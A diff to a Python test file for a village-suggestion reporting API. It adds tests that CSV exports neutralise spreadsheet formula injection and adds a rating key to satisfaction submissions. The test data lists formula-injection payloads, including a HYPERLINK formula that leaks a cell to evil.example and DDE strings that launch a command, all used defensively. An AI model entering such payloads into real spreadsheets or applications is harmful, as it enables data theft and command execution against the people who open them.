@@ -1,4 +1,5 @@
-"""The micro-report over HTTP: JSON, CSV round-trip with Chinese text, and the page's charts."""
+"""The micro-report over HTTP: JSON, CSV round-trip with Chinese text and no formula injection, and
+the page's charts."""
 
 from __future__ import annotations
 
@@ -6,13 +7,16 @@ import csv
 import io
 import re
 from collections.abc import Iterator
+from datetime import UTC, datetime
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
 
+from api.csv_export import csv_cell
 from tests.api.conftest import staffed_client
-from tests.api.workflow_helpers import ADMIN, T0, Staffing, routed_suggestion
+from tests.api.workflow_helpers import ADMIN, T0, Staffing, routed_suggestion, villager_rating_key
 
 HANDLER = ("li", "handler")
 
@@ -45,7 +49,9 @@ def resolved(api: TestClient, staffing: Staffing) -> list[int]:
         staffing.clock.advance(days=3)
         r = api.post(f"/api/v1/suggestions/{ids[0]}/resolve", json={"result_note": "换了灯泡"})
         assert r.status_code == 200, r.text
-    assert api.post(f"/api/v1/track/{codes[0]}/satisfaction", json={"score": 4}).status_code in (200, 201)
+    key = villager_rating_key(api, ids[0])
+    rated = api.post(f"/api/v1/track/{codes[0]}/satisfaction", json={"score": 4, "key": key})
+    assert rated.status_code in (200, 201)
     staffing.clock.advance(days=40)  # the open one is overdue now
     return ids
 
@@ -96,3 +102,71 @@ def test_json_csv_and_page_agree(api: TestClient, staffing: Staffing, resolved: 
         assert api.get("/api/v1/reports", params={"date": "11/15"}).status_code == 422
         bad_scope = api.get("/api/v1/reports", params={"scope": "department", "key": "nope"})
         assert bad_scope.status_code == 404
+
+
+# What villagers typed, each starting with a character that makes a spreadsheet run the cell as a
+# formula. The submission desk strips leading whitespace, so the tab and CR cases are stored rows.
+TYPED = [
+    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+]
+STORED = ["\t=1+1", "\r=1+1", "  =1+1"]
+
+
+def test_villager_text_never_becomes_a_spreadsheet_formula(api: TestClient, staffing: Staffing) -> None:
+    ids: dict[int, str] = {}
+    for value in TYPED:
+        form = {"text": f"{value} 路灯坏了", "village": value, "address": value}
+        response = api.post("/api/v1/suggestions", data=form)
+        assert response.status_code == 202, response.text
+        ids[response.json()["id"]] = value
+    for value in STORED:
+        sid, _ = routed_suggestion(api, "power", value, f"{value} 路灯坏了")
+        ids[sid] = value
+    params = {"period": "week", "date": datetime.now(UTC).date().isoformat()}
+    with staffing.as_(*HANDLER):
+        sug = api.get("/api/v1/reports/suggestions.csv", params=params)
+        agg = api.get("/api/v1/reports/aggregates.csv", params=params)
+        body = api.get("/api/v1/reports", params=params).json()
+    table = {int(r["id"]): r for r in csv.DictReader(io.StringIO(sug.content.decode("utf-8-sig")))}
+    for sid, value in ids.items():
+        row = table[sid]
+        assert row["village"] == "'" + value, (value, row)
+        assert row["text"] == f"'{value} 路灯坏了", (value, row)
+        if value in TYPED:
+            assert row["address"] == "'" + value
+        assert row["tracking_code"][0] != "'" and row["id"] == str(sid)  # the product's own cells
+    rows = list(csv.reader(io.StringIO(agg.content.decode("utf-8-sig"))))
+    villages = {key: value for section, key, _, value in rows if section == "village"}
+    for value in ids.values():
+        assert villages["'" + value] == "1", value
+    # Numbers stay numbers.
+    assert ["total", "", "suggestions", str(body["total"])] in rows
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-3, -3),
+        (-0.5, -0.5),
+        (Decimal("-1.25"), Decimal("-1.25")),
+        ("-3", "'-3"),
+        ("@x", "'@x"),
+        ("\x00=1", "'\x00=1"),
+        ("\n=1", "'\n=1"),
+        ("\u3000＝1", "'\u3000＝1"),
+        ("路灯 = 坏了", "路灯 = 坏了"),
+        ("'=1", "'=1"),
+        ("", ""),
+        (None, ""),
+        (datetime(2026, 11, 2, 8, 0, tzinfo=UTC), "2026-11-02T08:00:00+00:00"),
+    ],
+)
+def test_csv_cells_escape_text_only(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
